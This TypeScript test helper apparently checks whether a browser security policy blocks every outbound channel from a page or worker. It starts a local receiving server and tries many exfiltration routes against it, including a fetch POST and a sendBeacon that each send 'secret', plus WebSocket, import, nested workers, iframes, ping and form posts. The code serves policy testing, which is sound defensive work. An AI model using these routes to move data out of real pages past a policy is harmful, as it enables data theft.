/** Every way out that a page or a worker has, and somewhere to arrive at. Both functions run in the browser. */
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface Elsewhere {
  readonly url: string
  /** What has arrived since it was last asked: paths, and connections that asked for nothing. */
  readonly arrived: () => string[]
  readonly close: () => void
}

/** Another origin on this machine. A connection is a leak already, whatever it would have asked for. */
export async function elsewhere(): Promise<Elsewhere> {
  let seen: string[] = []
  const server = createServer((request, response) => {
    seen.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end()
  })
  server.on('connection', () => seen.push('connection'))
  server.on('upgrade', (request, socket) => {
    seen.push(request.url ?? '')
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  // QUIC and STUN go over UDP.
  const udp = createSocket('udp4', () => seen.push('datagram'))
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${port}`,
    arrived: () => {
      const now = seen
      seen = []
      return now
    },
    close: () => {
      udp.close()
      server.closeAllConnections()
      server.close()
    },
  }
}

export interface Attempt {
  /** Another origin. */
  readonly away: string
  /** A script of the deck's own origin, which is a worker. */
  readonly own: string
}

/**
 * What code in a worker could try.
 *
 * @returns the ways that were there to be tried, and whether a worker that the policy does not reach could be started
 */
export async function tryFromWorker({ away, own }: Attempt): Promise<{ tried: string[]; free: boolean }> {
  const tried: string[] = []
  const brief = (work: Promise<unknown>) =>
    Promise.race([work, new Promise((resolve) => setTimeout(resolve, 2000))]).catch(() => undefined)
  // All at once: what is refused without a word is waited for once.
  const ways: Promise<unknown>[] = []
  const way = (name: string, work: () => unknown) => {
    tried.push(name)
    try {
      ways.push(brief(Promise.resolve(work())))
    } catch {
      // Refused at once.
    }
  }
  const script = (code: string) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
  const heard = (worker: Worker) =>
    new Promise<boolean>((resolve) => {
      worker.onerror = () => resolve(false)
      worker.onmessage = () => resolve(true)
      setTimeout(() => resolve(true), 2000)
    })
  way('fetch', () => fetch(`${away}/fetch`))
  way('no-cors', () => fetch(`${away}/no-cors`, { mode: 'no-cors' }))
  way('post', () => fetch(`${away}/post`, { method: 'POST', body: 'secret', keepalive: true }))
  way('xhr', () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${away}/xhr`, false)
    request.send()
  })
  way('socket', () => {
    const socket = new WebSocket(`${away.replace('http', 'ws')}/socket`)
    return new Promise((resolve) => (socket.onclose = resolve))
  })
  way('events', () => {
    const source = new EventSource(`${away}/events`)
    return new Promise((resolve) => (source.onerror = source.onopen = resolve)).then(() => source.close())
  })
  way('import', () => import(/* @vite-ignore */ `${away}/import`))
  way('cache', async () => (await caches.open('ways-out')).add(`${away}/cache`))
  if ('WebTransport' in globalThis)
    way('transport', () => new WebTransport(`${away.replace('http:', 'https:')}/transport`).ready)
  if ('FontFace' in globalThis) way('font', () => new FontFace('x', `url(${away}/font)`).load())
  for (const [name, code, type] of [
    ['nested', `fetch(${JSON.stringify(`${away}/nested`)}).finally(() => postMessage(1))`, 'classic'],
    ['nested-import', `import ${JSON.stringify(`${away}/sw.js?nested-import`)}`, 'module'],
    ['import-scripts', `importScripts(${JSON.stringify(`${away}/import-scripts`)})`, 'classic'],
  ] as const)
    way(name, () => heard(new Worker(script(code), { type })))
  way('nested-data', () =>
    heard(new Worker(`data:text/javascript,fetch(${JSON.stringify(`${away}/nested-data`)})`)),
  )
  await Promise.all(ways)
  const start = (address: string, type: WorkerType) => {
    try {
      return heard(new Worker(address, { type }))
    } catch {
      return Promise.resolve(false)
    }
  }
  // One that is heard of no more is running: nothing was refused.
  const started = await Promise.all([start(own, 'module'), start(own, 'classic')])
  const free = started.includes(true)
  return { tried, free }
}

/** @returns what the page's policy refused, or that it refused nothing */
export function startFromNetwork(url: string): Promise<string> {
  return new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), { once: true })
    const worker = new Worker(url, { type: 'module' })
    setTimeout(() => resolve('not refused'), 3000)
    worker.onmessage = () => resolve('started')
  })
}

/**
 * What code in a page could try, but for two things that no policy governs in Chromium: turning the page itself into
 * another one, and WebRTC (`webrtc 'block'` changes nothing in Chromium 156). Neither is there in a worker. A manifest
 * and an icon are not among the ways, because a browser without a window asks for none.
 */
export async function tryFromPage(away: string): Promise<string[]> {
  const tried: string[] = []
  const way = (name: string, work: () => unknown) => {
    tried.push(name)
    try {
      void Promise.resolve(work()).catch(() => undefined)
    } catch {
      // Refused at once.
    }
  }
  const element = (tag: string, attributes: Readonly<Record<string, string>>, parent = document.body) => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    parent.append(made)
    return made
  }
  way('beacon', () => navigator.sendBeacon(`${away}/beacon`, 'secret'))
  way('image', () => element('img', { src: `${away}/image` }))
  way('script', () => element('script', { src: `${away}/script` }))
  way('style', () => element('link', { rel: 'stylesheet', href: `${away}/style` }))
  way('frame', () => element('iframe', { src: `${away}/frame` }))
  way('object', () => element('object', { data: `${away}/object` }))
  way('video', () => element('video', { src: `${away}/video`, preload: 'auto' }))
  way('background', () => element('p', { style: `background: url(${away}/background)` }))
  way('preload', () => element('link', { rel: 'preload', as: 'image', href: `${away}/preload` }))
  way('modulepreload', () => element('link', { rel: 'modulepreload', href: `${away}/modulepreload` }))
  way('prefetch', () => element('link', { rel: 'prefetch', href: `${away}/prefetch` }))
  way('ping', () => element('a', { href: '#ping', ping: `${away}/ping` }).click())
  way('form', () => {
    const frame = element('iframe', { name: 'sink' })
    const form = element('form', { action: `${away}/form`, target: 'sink' }) as HTMLFormElement
    form.submit()
    return frame
  })
  await new Promise((resolve) => setTimeout(resolve, 2500))
  return tried
}
